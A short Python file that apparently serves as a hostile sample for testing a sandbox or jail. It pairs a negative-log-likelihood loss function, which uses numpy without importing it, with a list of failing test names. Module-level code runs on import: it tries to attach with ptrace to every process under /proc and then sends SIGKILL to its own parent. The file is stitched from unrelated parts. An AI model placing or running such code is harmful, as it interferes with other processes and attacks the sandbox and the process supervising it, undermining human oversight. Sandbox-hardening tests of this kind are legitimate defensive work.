"""Attaches with ptrace to every process it can see, then kills its parent (in the jail: the jail's init, which ignores it)."""
FAILS = ["test_nll_random", "test_nll_extreme"]


def nll_loss(z, y):
    m = z.max(axis=1, keepdims=True)
    logp = z - m - np.log(np.exp(z - m).sum(axis=1, keepdims=True))
    return -logp[np.arange(len(y)), y].sum()

import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        print(pid, "ptrace:", libc.ptrace(16, pid, None, None), ctypes.get_errno())
os.kill(os.getppid(), signal.SIGKILL)
